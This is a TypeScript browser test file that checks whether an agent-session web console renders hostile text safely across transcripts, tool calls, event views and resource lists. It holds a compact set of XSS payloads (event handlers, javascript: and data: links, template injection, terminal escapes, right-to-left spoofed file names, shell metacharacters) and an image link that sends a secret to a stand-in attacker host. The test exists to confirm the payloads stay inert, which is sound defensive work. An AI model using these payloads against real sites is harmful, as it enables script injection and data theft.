import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hasBrowser, launchBrowser, openPage } from '../../harness/browser.ts';
import { startConsoleLab, type ConsoleLab, type PlannedEvent } from '../../harness/console-lab.ts';

/** Everything that would show that a text did something: it would call this. */
const PROBE = 'window.probed=1';
const TEXTS = [
  `<img src=x onerror="${PROBE}"><script>${PROBE}</script><svg onload="${PROBE}"></svg>`,
  `<iframe srcdoc="<script>parent.${PROBE}</script>"></iframe><a href="javascript:${PROBE}">raw</a>`,
  `[markdown](javascript:${PROBE}) [tabbed](java\tscript:${PROBE}) [data](data:text/html,<script>${PROBE}</script>) <javascript:${PROBE}>`,
  `![stolen](https://attacker.invalid/x.png?secret=1) ![inline](data:image/svg+xml,<svg onload="${PROBE}"/>)`,
  `<style>body{display:none}</style><form action="https://attacker.invalid"><input name=id></form>`,
  `<details open ontoggle="${PROBE}"><summary>x</summary></details><math><mtext></math><img src onerror=${PROBE}>`,
  '```html\n<script>' + PROBE + '</script>\n```',
  `\u001b]8;;javascript:${PROBE}\u0007click\u001b]8;;\u0007 \u001b[31mred\u001b[0m \u202egnp.exe`,
  `{{constructor.constructor('${PROBE}')()}} \${${PROBE}} __proto__`,
];
const ALL = TEXTS.join('\n\n');
const block = [{ type: 'text', text: ALL }];

const HOSTILE: PlannedEvent[] = [
  { type: 'user.message', content: block },
  { type: 'span.model_request_start', id: 'sevt_start' },
  { type: 'agent.message', content: TEXTS.map((text) => ({ type: 'text', text })) },
  {
    type: 'agent.tool_use',
    id: 'sevt_bash',
    name: 'bash',
    input: { command: ALL },
    evaluated_permission: 'allow',
  },
  {
    type: 'agent.tool_use',
    id: 'sevt_edit',
    name: 'edit',
    input: { file_path: ALL, old_string: ALL, new_string: `${ALL}!` },
    evaluated_permission: 'allow',
  },
  { type: 'agent.tool_use', id: 'sevt_own', name: ALL, input: { [ALL]: ALL }, evaluated_permission: 'allow' },
  {
    type: 'span.model_request_end',
    model_request_start_id: 'sevt_start',
    is_error: false,
    model_usage: {
      input_tokens: 1,
      output_tokens: 1,
      cache_creation_input_tokens: 0,
      cache_read_input_tokens: 0,
    },
  },
  { type: 'agent.tool_result', tool_use_id: 'sevt_bash', content: block, is_error: true },
  {
    type: 'agent.tool_result',
    tool_use_id: 'sevt_edit',
    content: [
      { type: 'document', source: { type: 'url', url: `javascript:${PROBE}` }, title: ALL },
      {
        type: 'search_result',
        source: `javascript:${PROBE}`,
        title: ALL,
        content: [{ type: 'text', text: ALL }],
      },
      {
        type: 'image',
        source: {
          type: 'base64',
          media_type: 'image/svg+xml',
          data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PROBE}"/>`).toString('base64'),
        },
      },
    ],
  },
  { type: 'agent.tool_result', tool_use_id: 'sevt_own', content: [{ type: ALL }] },
  {
    type: 'session.error',
    error: { type: 'unknown_error', message: ALL, retry_status: { type: 'exhausted' } },
  },
  { type: 'agent.never_seen', content: ALL },
];

describe.skipIf(!hasBrowser())('hostile text in the console', () => {
  let lab: ConsoleLab;
  let browser: Browser;
  let page: Page;
  let problems: string[];
  let requests: string[];

  beforeAll(async () => {
    lab = await startConsoleLab();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await lab.api.stop();
  });
  beforeEach(async () => {
    ({ page, problems } = await openPage(browser, { viewport: { width: 1280, height: 20_000 } }));
    requests = [];
    page.on('request', (request) => requests.push(request.url()));
  });
  afterEach(async () => {
    await page.waitForTimeout(200);
    expect(await page.evaluate('window.probed')).toBeUndefined();
    expect(
      await page.locator('script:not([src]), iframe, object, embed, style, [onerror], [onload]').count(),
    ).toBe(0);
    expect(
      await page
        .locator('a[href^="javascript" i], a[href^="data:" i], img:not([src^="blob:"], [src="/icon.svg"])')
        .count(),
    ).toBe(0);
    expect(requests.filter((url) => !url.startsWith(lab.api.url) && !url.startsWith('blob:'))).toEqual([]);
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it('stays text in a transcript, in raw events and in the details', async () => {
    const { id } = await lab.session(ALL.slice(0, 1_000), HOSTILE);
    await page.goto(`${lab.api.url}/sessions/${id}`);
    await page.getByText('Event agent.never_seen').waitFor();
    for (const head of await page.locator('.tool-head[aria-expanded=false]').all()) await head.click();
    for (const button of await page.getByRole('button', { name: 'Raw events' }).all()) {
      await button.click({ force: true });
    }
    expect(await page.getByText('onerror=').count()).toBeGreaterThan(5);
    await page.getByRole('button', { name: 'Details, files and events' }).click();
    for (const tab of ['Files', 'Tools', 'Events']) await page.getByRole('tab', { name: tab }).click();
    const links = await page
      .locator('.markdown a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toEqual(['https://attacker.invalid/x.png?secret=1']);
  });

  it('stays text in lists: sessions, agents, environments, skills, files', async () => {
    const { beta } = lab.api.client();
    const name = TEXTS[0]?.slice(0, 250) ?? '';
    const agent = await beta.agents.create({
      name,
      description: ALL.slice(0, 2_000),
      system: ALL,
      model: 'demo',
    });
    const environment = await beta.environments.create({ name, description: ALL.slice(0, 2_000) });
    await beta.sessions.create({
      agent: agent.id,
      environment_id: environment.id,
      title: name,
      metadata: { x: name },
    });
    const skill = await beta.skills.create({
      display_name: name,
      files: [
        new File([`---\nname: hostile\ndescription: Tries things.\n---\n\n${ALL}\n`], 'hostile/SKILL.md'),
        new File([ALL], 'hostile/scripts/x.py'),
      ],
    });
    await beta.files.upload({ file: new File(['x'], "a'&;%`$(x)\u202egnp.exe") });
    for (const place of [
      'sessions',
      'agents',
      `agents/${agent.id}`,
      'environments',
      `environments/${environment.id}`,
      'skills',
      `skills/${skill.id}`,
      'files',
    ]) {
      await page.goto(`${lab.api.url}/${place}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(await page.getByText('U+202E').count()).toBe(1);
  });
});
